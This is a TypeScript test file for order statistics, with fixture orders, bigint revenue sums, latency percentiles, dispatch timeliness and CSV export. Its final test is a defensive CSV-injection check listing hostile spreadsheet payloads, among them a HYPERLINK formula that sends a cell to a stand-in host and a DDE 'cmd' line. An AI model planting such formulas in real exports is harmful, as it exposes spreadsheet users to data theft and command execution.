import type { MtdEvent } from '@mtd/contracts';
import { describe, expect, it } from 'vitest';
import { evolveOrderView, type OrderView } from '#domain/orderView';
import {
  computeDayStatistics,
  computePeriodStatistics,
  csvCell,
  dayStatisticsToCsv,
  divideRoundHalfUp,
  percentile,
} from '#domain/statistics';
import { anOrder } from '#src/testing/orderHistory';

const config = { timeZone: 'America/Santiago' };
const viewOf = (events: readonly MtdEvent[]) =>
  events.reduce<OrderView | undefined>((v, e) => evolveOrderView(v, e, config), undefined)!;

const day = '2026-11-24';
const at = (time: string) => `2026-11-24T${time}.000Z`;

// Four orders of 2026-11-24 (Santiago) and one of the day before, with amounts easy to recount by hand.
const views = [
  // A: 2 × 1000 + 1 × 3000 = 5000; accepted→issued 1 s, issued→broadcast 2 s, issued→notified 3 s; on time.
  viewOf(
    anOrder('A', {
      lines: [
        { sku: 'S1', description: 'Uno', quantity: 2, unitPrice: 1000 },
        { sku: 'S2', description: 'Dos', quantity: 1, unitPrice: 3000 },
      ],
      dispatchBy: at('18:00:00'),
    })
      .received(at('12:00:00'))
      .accepted(at('12:00:00'))
      .issued(at('12:00:01'))
      .broadcast(at('12:00:03'))
      .notified(at('12:00:04')).events,
  ),
  // B: 5 × 1001 = 5005; accepted→issued 3 s; notified only; exception on broadcast.
  viewOf(
    anOrder('B', { lines: [{ sku: 'S1', description: 'Uno', quantity: 5, unitPrice: 1001 }] })
      .received(at('13:00:00'))
      .accepted(at('13:00:00'))
      .issued(at('13:00:03'))
      .broadcastFailed(at('13:00:05'), 1, true, 1)
      .notified(at('13:00:10')).events,
  ),
  // C: rejected.
  viewOf(anOrder('C').received(at('14:00:00')).rejected(at('14:00:01')).events),
  // D: 1 × 4000; completed but after its dispatchBy.
  viewOf(
    anOrder('D', {
      lines: [{ sku: 'S3', description: 'Tres', quantity: 1, unitPrice: 4000 }],
      dispatchBy: at('15:00:00'),
    })
      .received(at('14:30:00'))
      .accepted(at('14:30:00'))
      .issued(at('14:30:07'))
      .broadcast(at('15:30:00'))
      .notified(at('14:30:08')).events,
  ),
  // E: received 2026-11-24T01:00Z = 2026-11-23 in Santiago, so not in this day.
  viewOf(anOrder('E').received(at('01:00:00')).accepted(at('01:00:01')).issued(at('01:00:02')).events),
];

// Every deadline of the fixtures has passed by then.
const later = new Date('2026-11-26T00:00:00.000Z');

describe('day statistics', () => {
  const stats = computeDayStatistics(day, views, later);

  it('counts the orders of the day by stage and by fact', () => {
    expect(stats.orders).toBe(4);
    expect(stats.byStage).toEqual({
      pending: 0,
      received: 0,
      accepted: 0,
      rejected: 1,
      'dte-issued': 0,
      broadcast: 0,
      notified: 1,
      completed: 2,
    });
    expect([stats.received, stats.accepted, stats.rejected, stats.issued]).toEqual([4, 3, 1, 3]);
    expect(stats.exceptionsOpen).toBe(1);
  });

  it('sums revenue over issued DTEs and rounds the average half-up to whole pesos', () => {
    expect(stats.revenue).toBe(5000n + 5005n + 4000n);
    // 14005 / 3 = 4668.33…
    expect(stats.averageOrderValue).toBe(4668n);
    expect(divideRoundHalfUp(5n, 2n)).toBe(3n);
    expect(divideRoundHalfUp(7n, 2n)).toBe(4n);
    expect(divideRoundHalfUp(4n, 3n)).toBe(1n);
  });

  it('sums money exactly past 2^53, in the statistics and in the CSV', () => {
    // Three orders of 2^53 - 1 pesos each: a fold over numbers rounds the sum to a neighbour.
    const huge = Number.MAX_SAFE_INTEGER;
    const issuedA = views[0]!;
    const big = ['H1', 'H2', 'H3'].map((orderId) => ({
      ...issuedA,
      orderId,
      total: huge,
      lines: [{ ...issuedA.lines[0]!, sku: 'BIG', lineTotal: huge }],
    }));
    expect(String(huge + huge + huge)).not.toBe('27021597764222973'); // what numbers get wrong
    const result = computeDayStatistics(day, big, later);
    expect(result.revenue).toBe(27_021_597_764_222_973n);
    expect(result.averageOrderValue).toBe(9_007_199_254_740_991n);
    expect(result.topProductsByRevenue[0]).toMatchObject({ sku: 'BIG', revenue: 27_021_597_764_222_973n });
    const lines = dayStatisticsToCsv(result).split('\n');
    expect(lines).toContain('revenue,27021597764222973');
    expect(lines).toContain('averageOrderValue,9007199254740991');
    expect(lines).toContain('topByRevenue.1.revenue,27021597764222973');
  });

  it('ranks the top products by quantity and by revenue, ties by sku', () => {
    expect(stats.topProductsByQuantity).toEqual([
      { sku: 'S1', description: 'Uno', quantity: 7, revenue: 2000n + 5005n },
      { sku: 'S2', description: 'Dos', quantity: 1, revenue: 3000n },
      { sku: 'S3', description: 'Tres', quantity: 1, revenue: 4000n },
    ]);
    expect(stats.topProductsByRevenue.map((p) => [p.sku, p.revenue])).toEqual([
      ['S1', 7005n],
      ['S3', 4000n],
      ['S2', 3000n],
    ]);
  });

  it('reports nearest-rank latency percentiles per stage', () => {
    expect(stats.latencies.acceptedToIssued).toEqual({ count: 3, p50: 3000, p95: 7000, p99: 7000 });
    expect(stats.latencies.issuedToBroadcast).toEqual({
      count: 2,
      p50: 2000,
      p95: 3_593_000,
      p99: 3_593_000,
    });
    expect(stats.latencies.issuedToNotified).toEqual({ count: 3, p50: 3000, p95: 7000, p99: 7000 });
    expect(percentile([], 50)).toBeNull();
    expect(percentile([1, 2, 3, 4], 50)).toBe(2);
    expect(
      percentile(
        Array.from({ length: 100 }, (_, i) => i + 1),
        95,
      ),
    ).toBe(95);
  });

  it('shares the accepted orders completed by their dispatchBy, once every deadline passed', () => {
    expect(stats.dispatch).toEqual({
      asOf: later.toISOString(),
      due: 3,
      onTime: 1,
      late: 2,
      share: 0.3333,
      pending: 0,
      pendingCompleted: 0,
    });
  });

  it('counts only deadlines that have passed; orders whose deadline is ahead are pending, apart', () => {
    // 16:00Z: D's deadline (15:00) passed and it was late; A (18:00, done) and B (tomorrow) are ahead.
    const asOf = new Date(at('16:00:00'));
    expect(computeDayStatistics(day, views, asOf).dispatch).toEqual({
      asOf: asOf.toISOString(),
      due: 1,
      onTime: 0,
      late: 1,
      share: 0,
      pending: 2,
      pendingCompleted: 1,
    });
    // Before any deadline: no share at all, not 100 % or 33 %.
    const early = computeDayStatistics(day, views, new Date(at('14:59:59')));
    expect(early.dispatch).toMatchObject({ due: 0, share: null, pending: 3 });
  });

  it('gives a period a daily series, days without orders included', () => {
    const period = computePeriodStatistics('2026-11-23', '2026-11-25', views, later);
    expect(period.daily.map((d) => [d.day, d.orders, d.issued])).toEqual([
      ['2026-11-23', 1, 1],
      ['2026-11-24', 4, 3],
      ['2026-11-25', 0, 0],
    ]);
    expect(period.daily[1]).toMatchObject({
      revenue: stats.revenue,
      averageOrderValue: stats.averageOrderValue,
    });
    expect(period.daily[2]!.averageOrderValue).toBeNull();
    expect(period.orders).toBe(5);
    expect(dayStatisticsToCsv(period)).toContain('daily.2026-11-24.orders,4');
  });

  it('gives empty statistics for a day without orders', () => {
    const empty = computeDayStatistics('2026-01-01', views, later);
    expect(empty).toMatchObject({
      orders: 0,
      revenue: 0n,
      averageOrderValue: null,
      topProductsByQuantity: [],
    });
    expect(empty.dispatch.share).toBeNull();
    expect(empty.latencies.acceptedToIssued).toEqual({ count: 0, p50: null, p95: null, p99: null });
  });

  it('writes CSV as metric,value rows, quoting where needed', () => {
    const csv = dayStatisticsToCsv(stats);
    const lines = csv.trimEnd().split('\n');
    expect(lines[0]).toBe('metric,value');
    expect(lines).toContain('revenue,14005');
    expect(lines).toContain('averageOrderValue,4668');
    expect(lines).toContain('stage.completed,2');
    expect(lines).toContain('latency.acceptedToIssued.p95Ms,7000');
    expect(lines).toContain('topByQuantity.1.sku,S1');
    const quoted = dayStatisticsToCsv({
      ...stats,
      topProductsByQuantity: [{ sku: 'X', description: 'a, "b"', quantity: 1, revenue: 1n }],
    });
    expect(quoted).toContain('topByQuantity.1.description,"a, ""b"""');
  });

  it('never writes a cell a spreadsheet would run as a formula (OWASP CSV injection)', () => {
    const hostile = [
      '=HYPERLINK("http://x.example/?"&A1,"ver")',
      '+1+cmd|/C calc!A0',
      '-2+3',
      '@SUM(A1:A9)',
      '\t=1+1',
      '\r=1+1',
      '＝1+1',
    ];
    const csv = dayStatisticsToCsv({
      ...stats,
      topProductsByQuantity: hostile.map((description, i) => ({
        sku: `X${i}`,
        description,
        quantity: 1,
        revenue: 1n,
      })),
    });
    hostile.forEach((text, i) => {
      const label = `\ntopByQuantity.${i + 1}.description,`;
      const start = csv.indexOf(label) + label.length;
      const cell = csv.slice(start, csv.indexOf(`\ntopByQuantity.${i + 1}.quantity,`));
      // Quoted, with a leading ' inside the quotes: a spreadsheet shows the text and evaluates nothing.
      expect(cell).toBe(`"'${text.replaceAll('"', '""')}"`);
    });
    expect(csvCell('Tijeras')).toBe('Tijeras');
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell(12n)).toBe('12');
  });
});
